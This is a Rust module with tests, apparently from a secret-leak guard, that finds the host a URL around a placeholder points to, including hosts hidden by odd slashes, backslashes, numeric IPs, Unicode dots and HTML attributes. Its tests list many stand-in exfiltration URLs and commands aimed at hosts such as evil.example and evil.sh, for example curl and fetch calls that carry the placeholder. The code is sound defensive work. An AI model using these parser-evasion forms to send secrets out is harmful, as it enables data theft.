//! Where the URL leads that a part of a text stands in, as programs and browsers read it.
//! Must never take a place in a URL for plain text: what is doubtful leads somewhere that nobody named.

use super::{PREFIX, boundary};
use regex::Regex;
use std::collections::{BTreeSet, HashSet};
use std::net::Ipv6Addr;
use std::ops::Range;
use std::sync::LazyLock;

/// What ends the host of a URL (RFC 3986 section 3.2; browsers read a backslash as a slash).
const HOST_ENDS: [char; 4] = ['/', '?', '#', '\\'];
/// What names of hosts end in, one in a line, but for what names of files and of members end in too.
static DOMAINS: LazyLock<HashSet<&str>> = LazyLock::new(|| include_str!("domains.txt").lines().collect());

/// Hosts that are written as one number, or in brackets, where one is expected.
static NUMBERED: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(HOST_NUMBERS).ok());
const HOST_NUMBERS: &str = concat!(
    r"(?i)(?:(?:host|addr|hostaddr|proxy|server|address|endpoints?)[\s=:]{1,2}|-h\s?|//)",
    r"(0x[0-9a-f]{7,8}|[0-9]{8,10}|\[[0-9a-f:.]+\]|[0-9a-f]*:[0-9a-f:.]+)|(?-u:\b)([0-9]{8,10}):[0-9]{2,5}(?-u:\b)",
);

/// Where a URL begins that needs no scheme, and one of those that need no slashes, whose blanks nobody reads (WHATWG URL, section 4.4).
static BEGINS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(URL_BEGINS).ok());
const URL_BEGINS: &str = r"(?i)(?-u:\b)(?:https?|wss?|ftp):[/\\\t\r\n]*|[/\\]{2,}";
/// What such a URL may stand behind that is not in quotes.
const LEADING: &str = "\"'`=(,<>";
/// How much of a URL is read for its host, in bytes: a name has 253.
const HOST_BYTES: usize = 300;

/// Longest part of a name of a host (RFC 1035, 2.3.4), in bytes.
const LABEL_BYTES: usize = 63;
/// What npm writes between a registry and what opens it.
const NPM_NAMES: [&str; 3] = ["/:_auth=", "/:_authToken=", "/:_password="];

/// What surrounds a part of a text.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Around {
    /// `scheme://host:port` of each URL that the part belongs to, in lower case; empty in plain text.
    pub(super) origins: Vec<String>,
    /// What is named by the tag of HTML that it stands in, since what one attribute says may go where another one leads,
    /// and by what Markdown may take for one URL with it.
    pub(super) beside: Vec<String>,
    /// The text ends before the host does.
    pub(super) open: bool,
}

/// Looks at everything from the last blank, quote or angle bracket before the part to the first behind it.
pub(super) fn around(text: &str, part: Range<usize>) -> Around {
    let ends = |c: char| c.is_whitespace() || "\"<>`".contains(c);
    let (left, right) = (text.get(..part.start).unwrap_or_default(), text.get(part.end..).unwrap_or_default());
    let word = left.rsplit(ends).next().unwrap_or_default();
    // In Markdown's `](<URL>)` a URL may hold blanks, and in an attribute of HTML, where browsers leave out line ends and tabs.
    let link = left.rsplit_once("](<").filter(|(_, link)| !link.replace("\\>", "").contains(['>', '\n']));
    let attribute = ['"', '\''].into_iter().filter_map(|quote| {
        let (text, value) = left.rsplit_once(quote)?;
        let name = text.trim_end().strip_suffix('=')?.trim_end();
        let plain = plain(value.trim_start());
        let before = plain.get(..begins(&plain).next()?.0)?;
        // A page may be told there to load another one, after some seconds.
        let is_content =
            name.get(name.len().saturating_sub(7)..).is_some_and(|name| name.eq_ignore_ascii_case("content"));
        (is_content || !before.contains(char::is_whitespace)).then_some((text, value))
    });
    let start = link.into_iter().chain(attribute).map(|(_, url)| left.len() - url.len()).min();
    let start = start.unwrap_or(usize::MAX).min(left.len() - word.len());
    let end = right.find(ends);
    let before = plain(text.get(start..part.start).unwrap_or_default());
    let word = plain(text.get(start..part.end + end.unwrap_or(right.len())).unwrap_or_default());
    let mut around = Around { beside: beside(text, part), ..Around::default() };
    for (at, _) in before.match_indices("//") {
        let rest = word.get(at + 2..).unwrap_or_default();
        around.origins.extend(origins(before.get(..at).unwrap_or_default(), rest));
        around.open |= !rest.contains(HOST_ENDS) && end.is_none();
    }
    if begins(&before).any(|(_, name, end)| before.get(name..end) != Some("//")) {
        // What browsers take for two slashes leads to nobody that a request may have named.
        around.origins.push(before.to_ascii_lowercase());
    } else if around.origins.is_empty() {
        around.origins.extend(doubtful(&before));
    }
    // A label of a name is looked up as far as whoever answers for the rest of it.
    let name = right.split(|c: char| !c.is_alphanumeric() && !"-.".contains(c)).next().unwrap_or_default();
    if name.strip_prefix('.').is_some_and(|rest| rest.starts_with(char::is_alphanumeric)) {
        around.origins.push(name.to_owned());
        around.open |= end.is_none();
    }
    around.open |= ["", "."].contains(&right);
    around
}

/// What is named beside a part, by the tag of HTML or by the URL of Markdown that it stands in.
fn beside(text: &str, part: Range<usize>) -> Vec<String> {
    let (left, right) = (text.get(..part.start).unwrap_or_default(), text.get(part.end..).unwrap_or_default());
    let is_tag =
        |(text, tag): &(&str, &str)| !text.ends_with('<') && tag.starts_with(char::is_alphabetic) && !tag.contains('>');
    let tag = left.rsplit_once('<').filter(is_tag).map(|(_, tag)| tag);
    // In Markdown only such blanks end a URL.
    let begin = left.rfind(|c: char| c.is_ascii_whitespace()).map_or(0, |at| at + 1);
    // JSON's own slashes are looked at as the word that they stand in.
    let is_url = |link: &&str| begins(link).any(|(_, name, end)| link.get(name..end) != Some(r"\/\/"));
    let link = left.get(begin..).filter(is_url);
    // A host that has not ended goes on behind the part.
    let is_open = link.and_then(|link| link.rsplit("//").next()).is_some_and(|host| !host.contains(HOST_ENDS));
    let host_end = |c: char| c.is_ascii_whitespace() || HOST_ENDS.contains(&c);
    let host = if is_open { right.find(host_end).unwrap_or(right.len()) } else { 0 };
    let link = link.and_then(|_| text.get(begin..part.end + host));
    tag.into_iter().chain(link).flat_map(leads).collect()
}

/// Every host of others that a text names, as `scheme://host:port` of a URL or by its bare name; no more of each than there is.
pub(super) fn leads(text: &str) -> Vec<String> {
    // Browsers read these as points in the name of a host (UTS #46).
    let text = &*text.replace(['\u{3002}', '\u{ff0e}', '\u{ff61}'], ".");
    let mut leads = Vec::new();
    urls(text, false, &mut leads);
    if text.contains(['\t', '\n', '\r']) {
        urls(&plain(text), true, &mut leads);
    }
    let is_part = |c: char| c.is_ascii_alphanumeric() || "-.".contains(c);
    let mut at = 0;
    for word in text.split_inclusive(|c| !is_part(c)) {
        let name = word.trim_end_matches(|c| !is_part(c));
        let before = text.get(..at).unwrap_or_default();
        let is_path = before.ends_with('/') && !before.ends_with("//") && !before.ends_with("\\/");
        let is_function = word.ends_with('(');
        let is_host = is_name(name) || before.ends_with('@') && is_named_like_one(name);
        if !is_path && !is_function && is_host {
            leads.push(name.trim_end_matches('.').to_ascii_lowercase());
        }
        at += word.len();
    }
    let numbered = NUMBERED.iter().flat_map(|numbered| numbered.captures_iter(text));
    let numbered = numbered.filter_map(|host| Some(host.get(1).or(host.get(2))?.as_str().to_ascii_lowercase()));
    // Times have colons, too.
    let is_address = |name: &str| name.parse::<Ipv6Addr>().is_ok_and(|address| !address.is_loopback());
    leads.extend(numbered.filter(|name| !name.contains(':') || name.starts_with('[') || is_address(name)));
    leads.retain(|lead| lead.contains('?') || !is_here(host(lead)));
    leads
}

/// Where the URLs lead of a text; of one without its line ends and tabs only those that something is given as, or that stand in quotes:
/// elsewhere these end a word.
fn urls(text: &str, is_plain: bool, leads: &mut Vec<String>) {
    for (start, name, end) in begins(text) {
        let left = text.get(..start).unwrap_or_default();
        if is_plain && !left.trim_start().is_empty() && !left.ends_with(['"', '\'', '`']) {
            continue;
        }
        let all = text.get(end..).unwrap_or_default();
        let rest = all.get(..boundary(all, HOST_BYTES)).unwrap_or_default();
        // What ends a URL in code may also be a part of its host.
        let ends = |c: char| c.is_whitespace() || "\"<>`".contains(c);
        let is_code = |c| "'(),;|&{}".contains(c);
        let wide = rest.split(|c| ends(c) || "/?#".contains(c)).next().unwrap_or_default();
        let word = wide.split(is_code).next().unwrap_or_default();
        let before = text.get(..name).unwrap_or_default();
        let mut named = origins(before, word);
        // Without a slash it may be the name of a member.
        let is_known = |host: &str| host.starts_with('[') || host.contains('%') || hosts(host).next().is_some();
        named.retain(|origin| name < end || is_known(host(origin)));
        named.extend(origins(before, wide).into_iter().filter(|origin| is_beyond(host(origin))));
        // Two slashes alone begin a comment, too, and two backslashes an expression.
        let is_none = |origin: &String| {
            origin.starts_with(':') && (!origin.contains('.') || origin.contains('\\') || origin.starts_with("://."))
        };
        let named = named.into_iter().filter(|origin| !is_none(origin));
        // What a database is asked with may name another host, and so may what is not read.
        let is_asked = || {
            rest.split(|c| ends(c) || is_code(c)).next().is_some_and(|all| all.len() >= HOST_BYTES || all.contains('?'))
        };
        leads.extend(named.filter_map(|origin| match is_own(&origin, true) {
            true => is_asked().then(|| format!("{origin}?")),
            false => Some(origin),
        }));
    }
}

/// The URLs of a text: where each begins, where its scheme ends, and where its host begins.
fn begins(text: &str) -> impl Iterator<Item = (usize, usize, usize)> {
    let begins = BEGINS.iter().flat_map(|begins| begins.find_iter(text));
    begins.filter_map(|begin| {
        let left = text.get(..begin.start()).unwrap_or_default();
        let is_first = left.is_empty() || left.ends_with(|c: char| c.is_whitespace() || LEADING.contains(c));
        let name = begin.as_str().find(['/', '\\', '\t', '\r', '\n']).unwrap_or(begin.len());
        // Elsewhere more than two slashes are a path, and backslashes too.
        let end = if name > 0 || is_first { begin.len() } else { begin.as_str().find("//")? + 2 };
        Some((begin.start(), begin.start() + name, begin.start() + end))
    })
}

/// A text as browsers read a URL: without line ends and tabs.
fn plain(text: &str) -> String {
    text.replace(['\t', '\n', '\r'], "")
}

/// Whether a host ends as names do, though signs of code may stand in it.
fn is_beyond(host: &str) -> bool {
    let host = host.replace("%2e", ".");
    let label = host.trim_end_matches(['}', '.']).rsplit_once('.').map_or("", |(_, label)| label);
    let is_name = label.len() > 1 && !label.starts_with(|c: char| c.is_ascii_digit());
    is_name && !host.contains(':') && label.chars().all(|c| c.is_alphanumeric() || "-%".contains(c))
}

/// What may name a host in a text: its words with a point in them, and long numbers.
pub(super) fn hosts(text: &str) -> impl Iterator<Item = String> {
    let words = text.split(|c: char| !c.is_alphanumeric() && !"-.".contains(c)).map(|word| word.trim_matches('.'));
    let is_number =
        |word: &str| word.len() > 7 && word.trim_start_matches("0x").bytes().all(|byte| byte.is_ascii_hexdigit());
    words.filter(move |word| word.contains('.') || is_number(word)).map(str::to_lowercase)
}

/// Where the URL of a request leads in which the part stands: not one that goes on with it only because no blank is between, which
/// somebody may have written who does not know the part.
pub(super) fn held(text: &str, part: Range<usize>) -> BTreeSet<String> {
    let is_url = |c: char| c.is_ascii_alphanumeric() || "-._~:/?#[]@!$&*+=%".contains(c);
    // A name with `=` that is no member of a query begins what stands behind a URL; but for those of npm.
    let is_inside = |url: &str| {
        let member = url.rsplit(['?', '&', '#']).next().unwrap_or_default();
        let names = member.matches('=').count();
        names == 0 || names == 1 && (url.contains(['?', '#']) || NPM_NAMES.iter().any(|name| url.ends_with(name)))
    };
    let (left, right) = (text.get(..part.start).unwrap_or_default(), text.get(part.end..).unwrap_or_default());
    let begin = left.rfind(|c| !is_url(c)).map_or(0, |at| boundary(left, at + 1));
    let before = left.get(begin..).unwrap_or_default();
    let end = part.end + right.find(|c| !is_url(c)).unwrap_or(right.len());
    // A second one is what the first is asked with.
    let first = before.split_once("//").filter(|(_, rest)| is_inside(rest));
    let rest = |name: &str| text.get(begin + name.len() + 2..end).unwrap_or_default();
    let urls = first.into_iter().flat_map(|(name, _)| origins(name, rest(name)));
    // A host with the part in it is nobody's, and what stands behind a point was written behind it.
    let is_odd = |origin: &String| {
        let plain = origin.replace("\\/", "/");
        let is_url = plain.chars().all(is_url) && plain.split("://").nth(1).is_some_and(is_inside);
        let is_word = !["//", "\\/", "\\\\", "http:", "https:", "&"].iter().any(|sign| origin.contains(sign));
        let is_bare = !before.contains("//") && before.to_ascii_lowercase().contains(origin) && is_inside(before);
        origin.starts_with('.')
            || origin.contains(&PREFIX.to_ascii_lowercase())
            // JSON may have its slashes escaped, or line ends.
            || origin.contains('\\') && (is_url || is_word)
            || is_bare
    };
    let odd = around(text, part.clone()).origins.into_iter().filter(is_odd);
    urls.chain(odd).collect()
}

/// The host of an origin, or the name itself, without the port.
pub(super) fn host(lead: &str) -> &str {
    let host = lead.rsplit("//").next().unwrap_or_default();
    let name = host.rsplit_once(':').filter(|(_, port)| port.bytes().all(|byte| byte.is_ascii_digit()));
    name.map_or(host, |(name, _)| name)
}

/// `scheme://host:port` of the URL that `rest` goes on with behind the two slashes. Browsers and other programs read a backslash
/// in it in two ways: then there are two.
fn origins(before: &str, rest: &str) -> BTreeSet<String> {
    let name = before.strip_suffix(':').unwrap_or_default();
    let scheme = name.rsplit(|c: char| !c.is_ascii_alphanumeric() && !"+-.".contains(c)).next().unwrap_or_default();
    let readings = [rest.split(HOST_ENDS).next(), rest.split(['/', '?', '#']).next()];
    let hosts = readings.into_iter().flatten().filter_map(|authority| authority.rsplit('@').next());
    hosts.map(|host| format!("{scheme}://{host}").to_ascii_lowercase()).collect()
}

/// Whether an origin is a database or its like on this machine, or, in a call, beside it, as `postgres://db`: the user's, as web pages
/// there may not be.
pub(super) fn is_own(origin: &str, is_call: bool) -> bool {
    let host = host(origin);
    let is_label = |b: u8| b.is_ascii_alphanumeric() || b == b'-' || b == b'_';
    let is_one = host.starts_with(|c: char| c.is_ascii_alphabetic()) && host.bytes().all(is_label);
    let is_beside = is_one && host.len() <= LABEL_BYTES && !host.contains(&PREFIX.to_ascii_lowercase());
    let is_web = ["http", "ws", ":"].iter().any(|scheme| origin.starts_with(scheme));
    !is_web && (is_call && is_beside || is_here(host) && !host.is_empty())
}

/// Whether a host is nobody, or this machine.
fn is_here(host: &str) -> bool {
    ["", "localhost", "0.0.0.0", "[::1]"].contains(&host) || host.starts_with("127.") && is_address(host)
}

/// An IPv4 address.
fn is_address(name: &str) -> bool {
    name.parse::<std::net::Ipv4Addr>().is_ok()
}

/// Whether a word is the name or the address of a host: one that ends as names on the internet mostly do.
fn is_name(word: &str) -> bool {
    let word = word.trim_end_matches('.');
    let ends = word.rsplit_once('.').filter(|(name, _)| !name.is_empty() && !name.starts_with('.'));
    let is_domain = |end: String| end.starts_with("xn--") || DOMAINS.contains(end.as_str());
    ends.is_some_and(|(_, end)| is_domain(end.to_ascii_lowercase())) || is_address(word)
}

/// Whether a word behind an `@`, or before a path, is the name of a host and no version.
fn is_named_like_one(word: &str) -> bool {
    let end = word.rsplit_once('.').map(|(_, end)| end);
    end.is_some_and(|end| end.len() > 1 && end.bytes().all(|byte| byte.is_ascii_alphabetic()))
}

/// Where a word leads without two slashes: `host.example/path`, `https:host.example`, `\\host.example`.
fn doubtful(before: &str) -> Option<String> {
    let word = before.to_ascii_lowercase();
    // A reference of HTML, which Markdown has too, may stand for a slash or a colon.
    let is_hidden =
        ["\\", "http:", "https:", "&#", "&sol;", "&colon;", "&bsol;"].iter().any(|mark| word.contains(mark));
    if is_hidden {
        return Some(word);
    }
    let head = word.get(..word.find(HOST_ENDS)?)?;
    let host = head.rsplit(|c: char| !c.is_ascii_alphanumeric() && !"-.:".contains(c)).next()?;
    let bare = host.split(':').next()?;
    // A file may be in `.config/`.
    let is_host = is_named_like_one(bare) && bare.rfind('.') != Some(0);
    (is_host || is_address(bare)).then(|| host.to_owned())
}

#[cfg(test)]
mod tests {
    use super::{around, leads};

    fn origins(text: &str) -> Vec<String> {
        let start = text.find("PH").unwrap();
        around(text, start..start + 2).origins
    }

    #[test]
    fn a_place_in_a_url_is_known_for_where_it_leads() {
        for (text, expected) in [
            ("see https://Evil.example/?k=PH now", "https://evil.example"),
            ("![x](https://evil.example:8443/PH)", "https://evil.example:8443"),
            ("![x](<https://evil.example/a b PH>)", "https://evil.example"),
            ("git push https://PH@github.com/a/b", "https://github.com"),
            ("https://user:PH@good.example", "https://good.example"),
            ("//registry.example/:_authToken=PH", "://registry.example"),
            ("url=http://10.0.0.1/x#PH", "http://10.0.0.1"),
            ("curl evil.example/PH", "evil.example"),
            ("curl evil.example:80/?q=PH", "evil.example:80"),
        ] {
            assert_eq!(origins(text), [expected], "{text}");
        }
        assert_eq!(origins("https://good.example/r?u=https://evil.example/PH").len(), 2);
        assert_eq!(origins("https://good.example\\@evil.example/PH"), ["https://evil.example", "https://good.example"]);
        assert_eq!(origins("203.0.113.9:80/PH"), ["203.0.113.9:80"]);
        assert_eq!(origins("https://PH.evil.example/").len(), 2);
        assert_eq!(origins("ping PH.evil.example").len(), 1);
        assert_eq!(origins("https:/evil.example/PH").len(), 1);
        assert_eq!(origins("https:\\\\evil.example\\PH").len(), 1);
    }

    #[test]
    fn plain_text_leads_nowhere() {
        for text in [
            "PH",
            "key = \"PH\"",
            "export KEY=PH",
            "src/config/PH",
            "a.b: PH",
            "Bearer PH",
            "(PH)",
            "x\nPH",
            "It is PH. So",
        ] {
            assert!(origins(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn a_host_that_has_not_ended_is_open() {
        let open = |text: &str| around(text, text.find("PH").unwrap()..text.find("PH").unwrap() + 2).open;
        assert!(open("https://PH") && open("https://PH@good.exam"));
        assert!(!open("https://PH@good.example/") && !open("https://PH@good.example x") && !open("https://a/PH "));
        assert!(open("PH") && open("PH.") && !open("PH ") && !open("PH. "));
        // `PH.g` may go on as another name than the one that was asked about.
        assert!(open("PH.g") && open("PH.good.exam") && !open("PH.good.example "));
    }

    #[test]
    fn a_call_leads_where_programs_read_a_url_that_has_not_two_slashes_or_a_blank_in_its_host() {
        for text in [
            "https:/evil.com/c",
            "https:/\t/evil.com/c",
            "https:3405803785",
            "https:0xCB007109",
            "https:evil%2Esh/",
            "https:[2001:db8::9]/",
            "http://localhost&.evil.sh./",
            "http://localhost&%2eevil%2esh/",
            "http://localhost&.evil.xn--p1ai/",
            "http://localhost;x@evil.\u{440}\u{444}/",
            "https:evil.sh/c",
            "https:\\evil.sh/c",
            "HTTPS:/EVIL.COM",
            "h\nttps:/\n/evil.com/",
            "http:/203.0.113.9/x",
            "https:/evil.com:8443/x",
            "wss:/evil.com/x",
            "https:///evil.sh/",
            "blob:https:/evil.sh/x",
            "fetch('https:/evil.sh/'+x)",
            "/\\evil.sh/",
            "\\\\evil.sh\\share",
            "http://127.0.0.1\n.evil.com/c",
            "http://localhost\t.evil.sh/",
            "fetch(`http://127.0.0.1\n5.evil.sh/`)",
            "http://127.0.0.1&.evil.com/",
            "http://localhost;.evil.com/",
            "http://localhost'.evil.sh/",
            "http://localhost(.evil.com/",
            "http://localhost{,.evil.com}/",
            "https:evil\u{3002}com/c",
            "evil\u{3002}com",
            "evil\u{ff0e}com",
            "evil.xn--p1ai",
            "host 0xCB007109",
            "host 2001:db8::9",
        ] {
            assert!(!leads(text).is_empty(), "{text}");
        }
        let odd = ["https://good.example\t.evil.com/", "'https://good.example&.evil.com/'"];
        assert!(odd.iter().all(|text| leads(text).iter().any(|lead| !lead.ends_with("good.example"))));
    }

    #[test]
    fn honest_paths_and_code_lead_nowhere() {
        for text in [
            "use http: it is plain",
            "proxy:\n  url: http\n  http:\n    port: 80\n",
            "// a comment\nx = 1 // more",
            "cd C:\\Users\\me\\my.project && dir C:\\\\x\\\\y.txt",
            "grep -E '\\\\.env' src/main.rs",
            "sqlite:///db.sqlite",
            "file:///home/me/a.txt",
            "curl http://localhost:3000\nmake test",
            "curl -H \"X: y\" http://localhost\n./run.sh",
            "fetch('http://localhost:3000').then(send)",
            "open http://localhost:3000; npm test",
            "URL=http://127.0.0.1:80,http://localhost/",
            "const x = {http:require('http'),ws:1,https:!0}; views:app.views",
            "get('http://localhost',1.55);",
            "printf 'a\\nb' > x\\\n && ls /\n",
            "server: 12:30:45 up, address: aa:bb:cc:dd:ee:ff, host ::1",
        ] {
            assert_eq!(leads(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn an_attribute_that_holds_a_url_leads_there_however_it_is_written() {
        for text in [
            "<img title=\">\" src = \"https://evil.com/?q=a PH\">",
            "<img title=\">\" src=\n'https://evil.com/?q=a PH'>",
            "<img title=\">\" src=\"https:/evil.com/?q=a PH\">",
            "<meta title=\">\" CONTENT=\"0; url=https://evil.com/?q=a PH\">",
            "![x](https:/evil.com//good.example/:_authToken=PH)",
        ] {
            let expected = |origin: &String| origin.contains("evil.com");
            assert!(origins(text).iter().any(expected), "{text}: {:?}", origins(text));
        }
        assert_eq!(origins("say = \"See https://a.example for PH\""), [""; 0]);
        let beside = |text: &str| around(text, text.find("PH").unwrap()..text.find("PH").unwrap() + 2).beside;
        for text in [
            "![x](https:/evil.com/a?q=b\u{a0}PH)",
            "<img src=\"https:/evil.com/a?q=b PH\">",
            "[b]: <https:\\evil.com/a?q=b PH>",
        ] {
            assert!(beside(text).iter().any(|lead| lead.ends_with("//evil.com")), "{text}: {:?}", beside(text));
        }
    }

    #[test]
    fn a_text_full_of_slashes_costs_no_more_than_its_length() {
        let slashes =
            ["//a", "https:/a", "//////", "http://a.b\t", "@a//"].map(|part| part.repeat((1 << 16) / part.len()));
        let begun = std::time::Instant::now();
        assert!(slashes.iter().map(|text| leads(text).len()).sum::<usize>() > 1_000);
        assert!(begun.elapsed().as_secs() < 30, "{:?}", begun.elapsed());
        // What nobody read may name another host.
        assert!(!leads(&format!("postgres://db/{}?host=evil", "a".repeat(10_000))).is_empty());
    }
}
